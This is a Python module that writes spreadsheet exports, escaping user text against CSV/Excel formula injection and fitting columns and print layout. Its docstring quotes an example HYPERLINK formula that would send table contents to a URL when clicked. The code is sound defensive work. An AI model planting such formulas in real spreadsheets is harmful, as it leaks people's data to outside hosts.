"""Spreadsheet exports: no text a user typed can become a formula (CSV or Excel injection).

Excel, LibreOffice and openpyxl treat a cell that starts with = + - @ (and, once the file is
saved as CSV and opened again, tab or carriage return) as a formula: a candidate named
``=HYPERLINK("http://…?v="&C6,"詳細")`` would leak the table when clicked. As OWASP recommends,
such text gets a leading apostrophe, and is stored as text. Every workbook the app writes goes
through `save_workbook`, which does this to every text cell, so no export can forget it; a CSV
export would pass every text field through `neutralise` (csv.writer quotes the rest).

`save_workbook` also lays out every sheet as people open and print it: columns as wide as
their content (Japanese characters count double), A4 landscape scaled to the page's width, and
the rows that `table_header` marked frozen on screen and repeated on every printed page.
"""

from __future__ import annotations

import io
import unicodedata
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
YEN = '"¥"#,##0;-"¥"#,##0'
YEN_DIFFERENCE = '+"¥"#,##0;-"¥"#,##0;"¥"0'  # a difference says which way: +¥1,200 / -¥800
PERCENT = "0.00%"
MIN_WIDTH, MAX_WIDTH = 6, 60  # in Excel's character units


def neutralise(text: str) -> str:
    """The text as typed, with a leading apostrophe if a spreadsheet would run it."""
    return "'" + text if text.startswith(TRIGGERS) else text


def save_workbook(book: Workbook) -> io.BytesIO:
    """The workbook as xlsx bytes, with every text cell neutralised and typed as text.

    The app writes no formulas of its own; a cell openpyxl took for one (data type "f") was
    text from a user.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for item in row:
                if isinstance(item.value, str):
                    item.value = neutralise(item.value)
                    item.data_type = "s"
        _fit_columns(sheet)
        _print_setup(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def table_header(sheet: Worksheet, last_row: int, columns: int = 1) -> None:
    """Rows 1..last_row stay on screen and are printed on every page; so do `columns` columns."""
    sheet.freeze_panes = sheet.cell(row=last_row + 1, column=columns + 1).coordinate
    sheet.print_title_rows = f"1:{last_row}"


def display_width(text: str) -> int:
    """Width in half-width characters: 須崎市 is 6, 1,234 is 5."""
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in text)


def _shown(value: object, number_format: str) -> str:
    """Roughly what Excel shows for the value, to size its column."""
    if isinstance(value, bool) or value is None:
        return str(value or "")
    if isinstance(value, int | float) and "%" in number_format:
        return f"{value * 100:,.2f}%"
    if isinstance(value, int | float):
        return f"+¥{value:,.0f}" if "¥" in number_format else f"{value:,}"
    return str(value)


def _fit_columns(sheet: Worksheet) -> None:
    from openpyxl.utils import get_column_letter

    widths: dict[int, int] = {}
    for row in sheet.iter_rows():
        if sum(cell.value is not None for cell in row) < 2:
            continue  # a title or a note: it runs over the empty cells beside it
        for cell in row:
            text = _shown(cell.value, cell.number_format)
            widest = max(display_width(line) for line in text.split("\n"))
            widths[cell.column] = max(widths.get(cell.column, 0), widest)
    for column, width in widths.items():
        letter = get_column_letter(column)
        sheet.column_dimensions[letter].width = min(MAX_WIDTH, max(MIN_WIDTH, width + 2))


def _print_setup(sheet: Worksheet) -> None:
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.orientation = sheet.ORIENTATION_LANDSCAPE
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0  # as many pages down as it takes
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.oddFooter.center.text = "&P / &N"
